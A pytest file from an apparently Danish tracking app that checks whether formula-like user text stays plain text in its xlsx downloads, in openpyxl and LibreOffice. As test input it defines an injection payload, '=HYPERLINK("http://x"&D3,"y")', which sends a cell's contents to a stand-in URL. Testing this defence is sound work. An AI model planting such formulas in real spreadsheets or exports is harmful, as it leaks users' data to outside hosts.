"""Every workbook Tværs writes keeps what people typed as text: a title "=HYPERLINK(…)" or a comment "@SUM(1)"
is shown as typed, never a formula, in openpyxl, in LibreOffice, and (by Excel's quote prefix) when retyped.

The texts go in where users put them (initiative titles, an area's name, a verdict's comment) and come out of
the download route; LibreOffice's half is skipped, with the reason shown, where Calc is not installed.
"""
from __future__ import annotations

import csv
import re
import shutil
import subprocess
from io import BytesIO, StringIO
from pathlib import Path
from zipfile import ZipFile

import openpyxl
import pytest
from sqlalchemy import select

from tests.seeded_app import sign_in
from tracker.extensions import db
from tracker.models import Administration, Area, Initiative

TITLE = '=HYPERLINK("http://x"&D3,"y")'
PHONE = "+45 33 66 33 66"
AREA = "-Husum/Tingbjerg"
COMMENT = "@SUM(1)"
SOFFICE = shutil.which("soffice")


def _xlsx_routes(app) -> list[str]:
    """Every route that can answer a workbook: a path ending in .xlsx, or a choice of formats with xlsx."""
    return sorted(rule.endpoint for rule in app.url_map.iter_rules()
                  if rule.rule.endswith(".xlsx") or "xlsx" in rule.rule.rsplit("/", 1)[-1])


def _plant_formula_texts(app, targets) -> list[str]:
    """The known overlap pair with titles and an area name that look like formulas, reviewed with such a
    comment by the steering group; the pair's two new titles."""
    first, second = (db.session.get(Initiative, targets.values[key]) for key in ("first_id", "second_id"))
    first.title = f"{TITLE} {first.title}"
    second.title = f"{PHONE} {second.title}"
    titles = [first.title, second.title]
    area = db.session.scalar(select(Area).where(Area.slug == "husum-tingbjerg"))
    area.name = AREA
    db.session.commit()
    client = app.test_client()
    sign_in(client, "styregruppe")
    url = f"/overlaps/{first.id}-{second.id}"
    version = re.search(r'name="version"[^>]*value="(\d*)"', client.get(url).get_data(as_text=True))
    sof = db.session.scalar(select(Administration.id).where(Administration.code == "SOF"))
    response = client.post(url, data={"verdict": "boer_samordnes", "comment": COMMENT,
                                      "follow_up_administration": str(sof), "follow_up_due": "2026-12-15",
                                      "version": version.group(1) if version else ""})
    assert response.status_code == 302, response.get_data(as_text=True)[:2000]
    return titles


def _download(app, endpoint: str) -> bytes:
    client = app.test_client()
    sign_in(client, "admin")
    with app.test_request_context():
        url = app.url_for(endpoint, strength="all", show="all")
    response = client.get(url)
    assert response.status_code == 200, endpoint
    return response.data


def _titles(cell: str) -> list[str]:
    """The initiative titles of an "Indsatser" cell: one "title (CODE)" per line."""
    return [re.sub(r" \([A-ZÆØÅ]+\)$", "", line) for line in cell.split("\n")]


def _pair_row(rows: list[dict]) -> dict:
    [row] = [r for r in rows if TITLE in (r["Indsatser"] or "") and PHONE in r["Indsatser"]]
    return row


def test_every_xlsx_download_is_covered_here(walk_app):
    app, _targets = walk_app
    assert _xlsx_routes(app) == ["overlaps.export_xlsx", "transfer.export_initiatives", "transfer.export_log"], \
        "a new workbook download: add it to these tests (tests/transfer/test_formulas.py for the list and log)"


@pytest.mark.parametrize("endpoint", ["overlaps.export_xlsx"])
def test_texts_that_look_like_formulas_are_text_in_the_downloaded_workbook(walk_app, endpoint):
    app, targets = walk_app
    titles = _plant_formula_texts(app, targets)

    data = _download(app, endpoint)

    with ZipFile(BytesIO(data)) as package:
        sheets = [name for name in package.namelist() if name.startswith("xl/worksheets/")]
        assert sheets and not any(re.search(rb"<f[ >]", package.read(name)) for name in sheets)
    sheet = openpyxl.load_workbook(BytesIO(data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    header = [cell.value for cell in sheet[1]]
    rows = [dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2, values_only=True)]
    pair = _pair_row(rows)
    assert sorted(_titles(pair["Indsatser"])) == sorted(titles)
    assert pair["Kommentar"] == COMMENT
    assert AREA in pair["Område"].split("\n")
    # Edited and entered again in Excel, a cell with the quote prefix stays text.
    risky = [cell for cell in cells if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@"))]
    assert risky and all(cell.quotePrefix for cell in risky), [c.coordinate for c in risky if not c.quotePrefix]


def _calc_installed() -> bool:
    return SOFFICE is not None and any(Path(SOFFICE).resolve().parent.glob("*sclo.*"))


@pytest.mark.skipif(not _calc_installed(), reason="LibreOffice Calc is not installed: apt-get install "
                                                  "libreoffice-calc")
def test_libreoffice_shows_the_formula_like_texts_as_typed(walk_app, tmp_path):
    app, targets = walk_app
    titles = _plant_formula_texts(app, targets)
    source = tmp_path / "overlap.xlsx"
    source.write_bytes(_download(app, "overlaps.export_xlsx"))

    # 44,34,76: comma-separated, double quotes, UTF-8; a profile of its own so parallel runs do not clash.
    subprocess.run([SOFFICE, f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}", "--headless",
                    "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir", str(tmp_path),
                    str(source)], check=True, capture_output=True, timeout=120)

    table = list(csv.reader(StringIO((tmp_path / "overlap.csv").read_text(encoding="utf-8"))))
    pair = _pair_row([dict(zip(table[0], row, strict=True)) for row in table[1:]])
    assert pair["Kommentar"] == COMMENT
    assert sorted(_titles(pair["Indsatser"])) == sorted(titles)
    assert AREA in pair["Område"].split("\n")
